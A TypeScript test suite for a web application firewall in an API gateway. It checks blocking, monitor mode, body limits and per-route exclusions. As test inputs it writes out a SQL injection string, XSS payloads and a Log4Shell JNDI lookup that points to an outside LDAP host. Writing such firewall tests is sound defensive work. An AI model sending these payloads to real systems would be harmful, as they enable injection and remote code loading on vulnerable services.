/**
 * The waf over real sockets: blocked requests never reach the upstream and
 * get the JSON error; monitor mode lets them through and records what it
 * would have done; bodies are inspected and then forwarded byte for byte;
 * exclusions apply per route.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { send, startGateway, type TestGateway } from '../helpers/gateway.js';
import { startUpstream, type TestUpstream } from '../helpers/upstream.js';

describe('waf through the gateway', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;

  before(async () => {
    upstream = await startUpstream();
    gw = await startGateway(`
listeners: [{ name: main, address: "127.0.0.1:0" }]
services: [{ name: echo, targets: [{ url: "${upstream.url}" }] }]
global_policies:
  - waf: { body: { max_size: 4KiB } }
routes:
  - { name: api, service: echo, public: true, match: { paths: [/api] } }
  - name: trial
    service: echo
    public: true
    match: { paths: [/trial] }
    policies: [{ waf: { mode: monitor } }]
  - name: reports
    service: echo
    public: true
    match: { paths: [/reports] }
    policies: [{ waf: { exclusions: [{ rules: [sqli], targets: ["body:query"] }] } }]
`);
  });
  after(async () => {
    await gw?.close();
    await upstream?.close();
  });

  it('refuses an injection with 403 and the error shape, and the upstream never sees it', async () => {
    const before = upstream.seen.length;
    const res = await send(gw.url, `/api/users?id=${encodeURIComponent("1' OR '1'='1")}`);
    assert.equal(res.status, 403);
    const body = res.json();
    assert.equal(body.error.code, 'request_blocked');
    assert.equal(body.error.message, 'The request was blocked by a security rule.');
    assert.ok(!res.text.includes("'1'='1"), 'the payload is not echoed back');
    assert.equal(upstream.seen.length, before);
    const log = await gw.waitForLog((l) => l.type === 'access' && l.request_id === res.headers['x-request-id']);
    assert.deepEqual(log.events, ['blocked:waf.sqli']);
  });

  it('inspects a JSON body, then forwards the same bytes when it is clean', async () => {
    const clean = JSON.stringify({ name: "Siobhán O'Brien", note: 'select a plan & ship it -- thanks' });
    const ok = await send(gw.url, '/api/orders', { method: 'POST', body: clean, headers: { 'content-type': 'application/json' } });
    assert.equal(ok.status, 200);
    assert.equal(ok.json().body, clean);
    const bad = await send(gw.url, '/api/orders', { method: 'POST', body: JSON.stringify({ note: '<img src=x onerror=alert(1)>' }), headers: { 'content-type': 'application/json' } });
    assert.equal(bad.status, 403);
  });

  it('refuses a body larger than the inspection limit with 413', async () => {
    const res = await send(gw.url, '/api/orders', { method: 'POST', body: JSON.stringify({ pad: 'x'.repeat(5000) }), headers: { 'content-type': 'application/json' } });
    assert.equal(res.status, 413);
  });

  it('in monitor mode lets the request through and records what it would have blocked', async () => {
    const res = await send(gw.url, `/trial/search?q=${encodeURIComponent('<script>alert(1)</script>')}`);
    // the global waf (enforce) runs first: route-level monitor cannot loosen a global enforce
    assert.equal(res.status, 403);
    const monitorOnly = await startGateway(`
listeners: [{ name: main, address: "127.0.0.1:0" }]
services: [{ name: echo, targets: [{ url: "${upstream.url}" }] }]
routes:
  - name: trial
    service: echo
    public: true
    policies: [{ waf: { mode: monitor } }]
`);
    try {
      const passed = await send(monitorOnly.url, `/search?q=${encodeURIComponent('<script>alert(1)</script>')}`);
      assert.equal(passed.status, 200);
      const log = await monitorOnly.waitForLog((l) => l.type === 'access' && l.request_id === passed.headers['x-request-id']);
      assert.deepEqual(log.events, ['monitored:waf.xss']);
    } finally {
      await monitorOnly.close();
    }
  });

  it('a route exclusion does not loosen a global waf', async () => {
    const query = JSON.stringify({ query: 'SELECT region, SUM(total) FROM sales UNION SELECT region, 0 FROM regions' });
    const ok = await send(gw.url, '/reports/run', { method: 'POST', body: query, headers: { 'content-type': 'application/json' } });
    // the global waf still sees body:query: exclusions are per policy instance
    assert.equal(ok.status, 403);
  });

  it('finds log4shell in an arbitrary header', async () => {
    const res = await send(gw.url, '/api/ping', { headers: { 'x-tracking': '${${lower:j}ndi:ldap://203.0.113.9/a}' } });
    assert.equal(res.status, 403);
  });
});

describe('waf exclusions through the gateway', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;

  before(async () => {
    upstream = await startUpstream();
    gw = await startGateway(`
listeners: [{ name: main, address: "127.0.0.1:0" }]
services: [{ name: echo, targets: [{ url: "${upstream.url}" }] }]
routes:
  - name: reports
    service: echo
    public: true
    match: { paths: [/reports] }
    policies: [{ waf: { exclusions: [{ rules: [sqli], targets: ["body:query"] }] } }]
`);
  });
  after(async () => {
    await gw?.close();
    await upstream?.close();
  });

  it('lets SQL through in the excluded field and nowhere else', async () => {
    const sql = 'SELECT region, SUM(total) FROM sales UNION SELECT region, 0 FROM regions';
    const ok = await send(gw.url, '/reports/run', { method: 'POST', body: JSON.stringify({ query: sql }), headers: { 'content-type': 'application/json' } });
    assert.equal(ok.status, 200);
    const refused = await send(gw.url, '/reports/run', { method: 'POST', body: JSON.stringify({ title: sql }), headers: { 'content-type': 'application/json' } });
    assert.equal(refused.status, 403);
  });
});
